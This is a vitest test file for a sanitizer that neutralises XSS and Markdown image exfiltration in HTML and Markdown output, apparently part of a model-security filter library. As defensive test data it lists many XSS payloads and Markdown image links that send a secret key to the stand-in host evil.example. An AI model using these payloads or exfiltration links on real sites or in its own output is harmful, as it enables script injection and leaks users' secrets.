// sanitizeForSink: known XSS payloads (OWASP cheat sheet style) and Markdown image exfiltration are
// neutralized, benign formatting survives, and any text gives a string or a typed error, in linear time.
import { isModelSecError } from '@modelsec/core';
import { filterOutput, sanitizeForSink, sanitizeForSinkDetailed, sinkSanitizer } from '@modelsec/filters';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

/** Nothing that a browser would run or fetch without a click. */
function assertInertHtml(html: string): void {
  // Attribute values are escaped and quoted: what is inside them is text.
  const markup = html.replace(/="[^"]*"/g, '=""');
  expect(html).not.toMatch(/<script|<iframe|<svg|<object|<embed|<style|<img|<math/i);
  expect(markup).not.toMatch(/\son[a-z]+\s*=/i);
  expect(markup).not.toMatch(/style\s*=/i);
  expect(html).not.toMatch(/(?:href|src)\s*=\s*"?\s*(?:javascript|data|vbscript):/i);
}

describe("sanitizeForSink(text, 'html')", () => {
  const PAYLOADS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#x09;ScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<body onload=alert(1)>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onmouseover="alert(1)">hover</p>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<scr<script>ipt>alert(1)</script>',
    '<<script>alert(1);//<</script>',
    '<a href="x" onclick=alert(1)>x</a>',
    '<details open ontoggle=alert(1)>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://ok.example/" title=\'x" onmouseover="alert(1)\'>ok</a>',
    '<object data="javascript:alert(1)">',
    '<input autofocus onfocus=alert(1)>',
    '<img src="https://evil.example/log?q=SECRET">',
  ];
  for (const p of PAYLOADS) {
    test(p.slice(0, 60), () => {
      const out = sanitizeForSink(`before ${p} after`, 'html');
      assertInertHtml(out);
      expect(out).toContain('before');
    });
  }

  test('benign formatting and safe links survive, in canonical form', () => {
    expect(
      sanitizeForSink('<p>Hi <b>there</b>, see <a href="https://example.com/a?b=1&amp;c=2">docs</a></p>', 'html'),
    ).toBe(
      '<p>Hi <b>there</b>, see <a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">docs</a></p>',
    );
    expect(sanitizeForSink('<ul><li>one<li>two</ul><code class="language-ts">a &lt; b</code>', 'html')).toBe(
      '<ul><li>one<li>two</li></li></ul><code class="language-ts">a &lt; b</code>',
    );
    expect(sanitizeForSink('1 < 2 & 3 > 2', 'html')).toBe('1 &lt; 2 &amp; 3 &gt; 2');
    expect(sanitizeForSink('<b>unclosed', 'html')).toBe('<b>unclosed</b>');
  });

  test('images only from allowed hosts; otherwise the alt text', () => {
    const r = sanitizeForSinkDetailed('<img src="https://evil.example/x?q=1" alt="a cat">', 'html', {
      imageHosts: ['cdn.example.com'],
    });
    expect(r.text).toBe('a cat');
    expect(r.stats.images).toBe(1);
    expect(
      sanitizeForSink('<img src="https://img.cdn.example.com/c.png" alt="cat" onerror="x">', 'html', {
        imageHosts: ['cdn.example.com'],
      }),
    ).toBe('<img src="https://img.cdn.example.com/c.png" alt="cat">');
  });
});

describe("sanitizeForSink(text, 'markdown')", () => {
  test('dangerous links lose their destination, in every encoding a renderer decodes', () => {
    for (const dest of [
      'javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      'javascript&colon;alert(1)',
      'javascript&#58;alert(1)',
      'java&#x73;cript:alert(1)',
      'javascript\\:alert(1)',
      '<javascript:alert(1)>',
      'data:text/html;base64,PHNjcmlwdD4=',
      'vbscript:msgbox(1)',
      ' javascript:alert(1)',
    ]) {
      const out = sanitizeForSink(`see [here](${dest}) now`, 'markdown');
      expect(out, dest).toMatch(/^see \[here\]\( ?\) now$/);
    }
    expect(sanitizeForSink('[ok](https://example.com/a_(b)) [rel](/docs) [m](mailto:a@b.example)', 'markdown')).toBe(
      '[ok](https://example.com/a_(b)) [rel](/docs) [m](mailto:a@b.example)',
    );
  });

  test('image exfiltration links are removed (alt text kept), unless the host is allowed', () => {
    const secret = 'sk-live-1234';
    const cases = [
      `![loading](https://evil.example/log?q=${secret})`,
      `![loading](<https://evil.example/log?q=${secret}> "t")`,
      `![lo[ad]ing](https://evil.example/log?q=${secret})`,
      `![loading][ref]\n\n[ref]: https://evil.example/log?q=${secret}`,
      `![ref]\n\n[ref]: https://evil.example/log?q=${secret}`,
      `![a\`[\`](https://evil.example/log?q=${secret})`,
      `[![loading](https://evil.example/log?q=${secret})](https://ok.example)`,
    ];
    for (const md of cases) {
      const out = sanitizeForSink(md, 'markdown');
      // No image syntax pointing at the attacker is left: either no `![` or no destination.
      expect(out, md).not.toMatch(/!\[[^\]]*\]\([^)]*evil/);
      expect(out, md).not.toMatch(/!\[[^\]]*\]\[/);
    }
    expect(sanitizeForSink(`![loading](https://evil.example/log?q=${secret}) done`, 'markdown')).toBe('loading done');
    expect(
      sanitizeForSink('![cat](https://cdn.example.com/cat.png)', 'markdown', { imageHosts: ['cdn.example.com'] }),
    ).toBe('![cat](https://cdn.example.com/cat.png)');
  });

  test('raw HTML is escaped; fenced code at column 0 is kept verbatim', () => {
    expect(sanitizeForSink('hi <img src=x onerror=alert(1)> <script>alert(1)</script>', 'markdown')).toBe(
      'hi &lt;img src=x onerror=alert(1)> &lt;script>alert(1)&lt;/script>',
    );
    const fenced = '```html\n<script>ok()</script>\n```\nafter';
    expect(sanitizeForSink(fenced, 'markdown')).toBe(fenced);
    // A fence a renderer closes early (list item ends) is not trusted.
    expect(sanitizeForSink('- a\n  ```\n<script>alert(1)</script>\n```', 'markdown')).not.toContain('<script');
    expect(sanitizeForSink('<https://example.com> <javascript:alert(1)> a < b', 'markdown')).toBe(
      '<https://example.com> &lt;javascript:alert(1)> a < b',
    );
    expect(sanitizeForSink('[x]: javascript:alert(1)\n[y]: https://ok.example', 'markdown')).toBe(
      '[x]: #\n[y]: https://ok.example',
    );
  });

  test('idempotent on its own output', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[[\]()!<>a-z:/\\`\n &#;.]{0,60}$/), (md) => {
        const once = sanitizeForSink(md, 'markdown');
        expect(sanitizeForSink(once, 'markdown')).toBe(once);
      }),
      { numRuns: 500 },
    );
  });
});

describe('zero trust', () => {
  test('any text: a string out for both sinks; bad arguments are typed errors', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), fc.constantFrom('html', 'markdown' as const), (t, sink) => {
        expect(typeof sanitizeForSink(t, sink as 'html' | 'markdown')).toBe('string');
      }),
      { numRuns: 300 },
    );
    for (const bad of [undefined, 1, {}, new Uint8Array(2)]) {
      try {
        sanitizeForSink(bad as unknown as string, 'html');
        expect.unreachable();
      } catch (e) {
        expect(isModelSecError(e)).toBe(true);
      }
    }
    expect(() => sanitizeForSink('x', 'pdf' as 'html')).toThrow(RangeError);
  });

  test('adversarial megabyte inputs finish (linear scans)', () => {
    // One megabyte for the first units, 200 KB for the rest (all scale linearly; kept short for CI).
    const units = ['[', '](', '<script>', '<a ', '<', '![', '](<', '<a href="', '\\', '```\n', '<!--', '&#', '[x]: '];
    for (const [k, unit] of units.entries()) {
      const big = unit.repeat(Math.ceil((k < 3 ? 1_000_000 : 200_000) / unit.length));
      expect(typeof sanitizeForSink(big, 'html')).toBe('string');
      expect(typeof sanitizeForSink(big, 'markdown')).toBe('string');
    }
  });

  test('the rule reports content-free findings and passes clean text through', async () => {
    const r = await filterOutput('ok ![x](https://evil.example/?q=secret)', [sinkSanitizer('markdown')]);
    expect(r.output).toBe('ok x');
    expect(r.findings.map((f) => [f.code, f.details?.kind])).toEqual([['unsafe_output', 'images']]);
    expect(JSON.stringify(r.findings)).not.toContain('secret');
    const clean = await filterOutput('just text', [sinkSanitizer('html')]);
    expect(clean.findings).toEqual([]);
    const bad = await filterOutput(42, [sinkSanitizer('html')]);
    expect(bad.ok).toBe(false);
    expect(bad.blocked?.code).toBe('invalid_format');
  });
});
